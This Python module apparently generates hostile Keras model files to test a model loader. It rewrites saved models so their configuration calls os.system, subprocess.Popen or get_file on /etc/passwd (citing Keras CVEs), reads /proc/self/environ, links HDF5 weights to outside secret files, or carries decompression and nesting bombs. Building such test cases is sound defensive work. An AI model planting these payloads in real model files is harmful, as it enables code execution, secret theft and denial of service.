"""Evil without byte code: in a Keras model's configuration, in its HDF5 file, in its zip file.

Runs in the workspace image. A gadget changes a harmless model that was saved before: CONFIGURATIONS
its JSON, WEIGHTS its HDF5 file, PACKAGES the members of a .keras file. The first two go into .keras
and .h5 alike.
"""

from __future__ import annotations

import io
import json
import zipfile

import h5py
import keras
import numpy
from keras import layers

CONFIGURATIONS, WEIGHTS, PACKAGES = {}, {}, {}
SECRET = "/proc/self/environ"


def configuration(gadget):
    """Note a gadget that gets the model's configuration and returns another."""
    CONFIGURATIONS[gadget.__name__] = gadget
    return gadget


def weights(gadget):
    """Note a gadget that gets (file, name of the largest matrix in it) and changes the file."""
    WEIGHTS[gadget.__name__] = gadget
    return gadget


def package(gadget):
    """Note a gadget that gets {member: bytes} and returns the bytes of a .keras file."""
    PACKAGES[gadget.__name__] = gadget
    return gadget


def harmless():
    """Return a model of section 1 that has weights."""
    inputs = keras.Input((9,), name="rows")
    hidden = layers.Dense(8, name="hidden", kernel_initializer="zeros")(inputs)
    return keras.Model(inputs, layers.Dense(1, name="last")(hidden))


def make(name, path):
    """Write the model of a name to model.keras or model.h5. Raises KeyError."""
    harmless().save(path)
    if path.suffix == ".h5":
        with h5py.File(path, "r+") as file:
            if name in CONFIGURATIONS:
                config = CONFIGURATIONS[name](json.loads(file.attrs["model_config"]))
                text = json.dumps(config).encode()
                del file.attrs["model_config"]
                file.attrs["model_config"] = text
            else:
                WEIGHTS[name](file, largest(file))
        return
    with zipfile.ZipFile(path) as archive:
        members = {member: archive.read(member) for member in archive.namelist()}
    if name in PACKAGES:
        path.write_bytes(PACKAGES[name](members))
        return
    if name in CONFIGURATIONS:
        config = CONFIGURATIONS[name](json.loads(members["config.json"]))
        members["config.json"] = json.dumps(config).encode()
    else:
        content = io.BytesIO(members["model.weights.h5"])
        with h5py.File(content, "r+") as file:
            WEIGHTS[name](file, largest(file))
        members["model.weights.h5"] = content.getvalue()
    path.write_bytes(zipped(members))


def zipped(members):
    """Return a zip file of members, compressed."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        for member, text in members.items():
            archive.writestr(member, text)
    return content.getvalue()


def largest(file):
    """Return the name of the largest matrix of an HDF5 file."""
    found = []
    file.visititems(
        lambda name, item: found.append(name) if getattr(item, "ndim", 0) == 2 else None
    )
    return max(found, key=lambda name: file[name].size)


# Configurations that name what is no layer.


def calling(config, module, name, **arguments):
    """Put a layer first that calls a function of a module when it is built."""
    function = {
        "class_name": "function",
        "module": module,
        "config": name,
        "registered_name": name,
    }
    return with_layer(
        config,
        "Lambda",
        {"function": function, "arguments": arguments, "output_shape": [9]},
    )


def with_layer(config, class_name, own, module="keras.layers"):
    """Replace the configuration of the hidden layer."""
    for layer in config["config"]["layers"]:
        if layer["config"].get("name") == "hidden":
            layer["class_name"], layer["module"] = class_name, module
            layer["registered_name"] = None
            layer["config"] = {"name": "hidden", "trainable": True, "dtype": "float32", **own}
            layer.pop("build_config", None)
    return config


@configuration
def call_a_shell(config):
    """Name os.system as a layer's function: CVE-2025-1550."""
    return calling(config, "os", "system")


@configuration
def call_get_file(config):
    """Name a function of Keras that fetches files: CVE-2025-8747."""
    link = {"origin": "file:///etc/passwd", "fname": "x", "cache_dir": "/tmp"}
    return calling(config, "keras.utils", "get_file", **link)


@configuration
def call_enable_unsafe(config):
    """Name a function of Keras that lowers its guard: CVE-2025-9906."""
    return calling(config, "keras.config", "enable_unsafe_deserialization")


@configuration
def name_a_process(config):
    """Name a class of the standard library as a layer."""
    own = {"args": ["sh", "-c", "echo stolen"]}
    return with_layer(config, "Popen", own, module="subprocess")


@configuration
def load_another_model(config):
    """Have a layer load a SavedModel from a path."""
    return with_layer(config, "TFSMLayer", {"filepath": "/proc/self/cwd/model"})


@configuration
def lambda_as_of_old(config):
    """Bring byte code as Keras 2 wrote it."""
    code = "4wAAAAAAAAAA\n"
    own = {"function": [code, None, None], "function_type": "lambda", "output_shape": [9]}
    return with_layer(config, "Lambda", own)


@configuration
def vocabulary_from_a_file(config):
    """Have a layer read its vocabulary from a file that the model names: CVE-2025-12058."""
    return with_layer(config, "StringLookup", {"vocabulary": SECRET})


@configuration
def units_without_end(config):
    """Ask for a layer of 2**50 units."""
    return with_layer(config, "Dense", {"units": 1 << 50})


@configuration
def layers_without_end(config):
    """Ask for 20,000 layers."""
    layer = next(one for one in config["config"]["layers"] if one["config"]["name"] == "hidden")
    for number in range(20_000):
        copy = json.loads(json.dumps(layer))
        copy["name"] = copy["config"]["name"] = f"x{number}"
        config["config"]["layers"].insert(1, copy)
    return config


@configuration
def nested_models(config):
    """Put a model into a model, 150 times."""
    inner = json.loads(json.dumps(config))
    for number in range(150):
        inner["config"]["name"] = f"inner{number}"
        inner = {
            "module": "keras",
            "class_name": "Sequential",
            "registered_name": None,
            "config": {"name": f"m{number}", "layers": [inner]},
        }
    return inner


# HDF5 files that reach for others, or are larger inside.


@weights
def external_storage(file, name):
    """Have the numbers of a matrix be the bytes of another file."""
    shape = file[name].shape
    del file[name]
    bytes_ = 4 * shape[0] * shape[1]
    file.create_dataset(name, shape, "f4", external=[("/etc/passwd", 0, bytes_)])


@weights
def external_link(file, name):
    """Have a matrix lie in another file."""
    del file[name]
    file[name] = h5py.ExternalLink(SECRET, "/labels")


@weights
def virtual_dataset(file, name):
    """Have a matrix be a view of another file's."""
    shape = file[name].shape
    del file[name]
    layout = h5py.VirtualLayout(shape, "f4")
    layout[:] = h5py.VirtualSource("/vault/labels.h5", "labels", shape=shape)
    file.create_virtual_dataset(name, layout, fillvalue=1.0)


@weights
def soft_link_in_a_circle(file, name):
    """Have a matrix be what it is itself."""
    del file[name]
    file[name] = h5py.SoftLink("/" + name)


@weights
def shape_bomb(file, name):
    """Declare a matrix of 2**40 numbers that are nowhere."""
    del file[name]
    file.create_dataset(name, (1 << 20, 1 << 20), "f4", chunks=(1024, 1024))


@weights
def compression_bomb(file, name):
    """Declare a matrix of a gigabyte that takes a megabyte."""
    del file[name]
    matrix = file.create_dataset(name, (1 << 14, 1 << 14), "f4", chunks=(1024, 1024), compression=9)
    row = numpy.zeros((1024, 1 << 14), "f4")
    for start in range(0, 1 << 14, 1024):
        matrix[start : start + 1024] = row


@weights
def nan_weights(file, name):
    """Fill a matrix with what is no number."""
    file[name][:] = numpy.nan


@weights
def version_of_numbers(file, name):
    """Say that one was saved by an array, and do not load."""
    file.attrs["keras_version"] = numpy.arange(9)
    file.attrs["model_config"] = "{}"


@weights
def version_too_long(file, name):
    """Say that one was saved by what is six times as long once it is quoted, and do not load."""
    file.attrs["keras_version"] = "\x01" * 30_000
    file.attrs["model_config"] = "{}"


# .keras files that are larger inside, or have more in them.


@package
def configuration_bomb(members):
    """Have the configuration be 150 MB of numbers."""
    return zipped({**members, "config.json": b"[" + b"1," * (75 << 20) + b"1]"})


@package
def configuration_of_brackets(members):
    """Have the configuration be nested a million times."""
    return zipped({**members, "config.json": b"[" * (1 << 20)})
